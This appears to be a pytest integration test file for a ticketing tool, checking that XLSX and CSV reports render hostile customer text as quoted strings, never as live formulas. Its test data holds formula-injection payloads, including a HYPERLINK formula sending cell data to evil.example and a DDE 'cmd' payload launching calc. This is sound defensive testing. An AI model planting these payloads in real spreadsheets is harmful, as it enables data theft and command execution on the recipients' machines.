"""The attack pass's input findings, each against the installed `ticketd` and a real database.

Reports a customer's text reaches, CSV input to `customers import`, `tickets search` text and a database file that
is not one: hostile input must come out as text or as a one-line usage error (exit 2), never as a formula, a
wildcard or a traceback.
"""

from __future__ import annotations

import csv
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import Desk, decode

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B2,"Click for your invoice")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def stranger_mail(sender: str, name: str, subject: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = f'"{name}" <{sender}>'
    msg["To"], msg["Subject"], msg["Message-ID"] = "support@acme.example", subject, make_msgid(domain="x.example")
    msg.set_content("Please look at this.")
    return msg.as_bytes()


def test_report_cells_and_csv_fields_never_start_a_formula(desk: Desk, tmp_path: Path) -> None:
    for n, text in enumerate(HOSTILE):
        desk.deliver(stranger_mail(f"eve{n}@evil.example", text, text))
    proc = desk.site.cli("report", "--xlsx", str(tmp_path / "r.xlsx"), "--csv", str(tmp_path))
    assert proc.returncode == 0, decode(proc)

    workbook = load_workbook(tmp_path / "r.xlsx")
    formulas = [(ws.title, c.coordinate, c.value) for ws in workbook for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = {c.value: c for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE:
        cell = texts[text]  # the subject, shown as written
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)

    with (tmp_path / "tickets.csv").open(encoding="utf-8-sig", newline="") as fh:
        fields = [field for row in csv.reader(fh) for field in row]
    for text in HOSTILE:
        assert "'" + text in fields, text
    assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "=1", "+1", "-x", "@x"])
def test_csv_field_quotes_every_formula_start(text: str) -> None:
    """Tab- and CR-led texts cannot travel in a mail header, so this one function is checked on its own."""
    from ticketd.daemon.report_xlsx import csv_field

    assert csv_field(text) == "'" + text
    assert csv_field(-1.5) == "-1.5" and csv_field("plain") == "plain"
